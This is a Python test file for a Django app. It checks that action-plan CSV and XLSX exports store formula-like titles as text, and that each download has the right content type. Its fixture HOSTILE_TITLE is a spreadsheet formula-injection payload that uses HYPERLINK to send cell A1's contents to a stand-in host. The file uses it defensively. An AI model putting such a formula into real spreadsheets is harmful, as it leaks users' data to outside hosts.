"""The action plan's CSV and XLSX, as downloaded: what a member typed as an action's title
arrives in the spreadsheet as text, never as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tables import services
from tables.models import Document
from tables.services.documents import document_request
from tests.conftest import client_as
from tests.tables.test_plans import make_plan, structure

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://x.example/?d="&A1,"Voir")'
TITLE_COLUMN = 5


def download(world, kind, django_capture_on_commit_callbacks):
    plan = make_plan(world.table_a)
    _axis, fixed, _free = structure(plan)
    services.action_add(objective=fixed, by=None, title=HOSTILE_TITLE, lead=world.org_a)
    with django_capture_on_commit_callbacks(execute=True):
        document = document_request(source=plan, kind=kind, language="fr-ca")
    assert Document.objects.get(pk=document.pk).is_ready
    response = client_as(world, "coordinator").get(reverse("tables:document-download", args=[document.pk]))
    assert response.status_code == 200
    return response


def test_the_plan_csv_keeps_a_formula_typed_as_an_action_title_as_text(
    world, django_capture_on_commit_callbacks
):
    response = download(world, "plan_csv", django_capture_on_commit_callbacks)
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    assert rows[1][TITLE_COLUMN - 1] == "'" + HOSTILE_TITLE


def test_the_plan_xlsx_keeps_a_formula_typed_as_an_action_title_as_text(
    world, django_capture_on_commit_callbacks
):
    response = download(world, "plan_xlsx", django_capture_on_commit_callbacks)
    cell = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.cell(2, TITLE_COLUMN)
    assert (cell.value, cell.data_type) == ("'" + HOSTILE_TITLE, "s")


@pytest.mark.parametrize(
    ("kind", "content_type"),
    [
        ("plan_csv", "text/csv; charset=utf-8"),
        ("plan_xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_a_plan_spreadsheet_downloads_with_its_own_content_type(
    world, django_capture_on_commit_callbacks, kind, content_type
):
    response = download(world, kind, django_capture_on_commit_callbacks)
    assert response["Content-Type"] == content_type
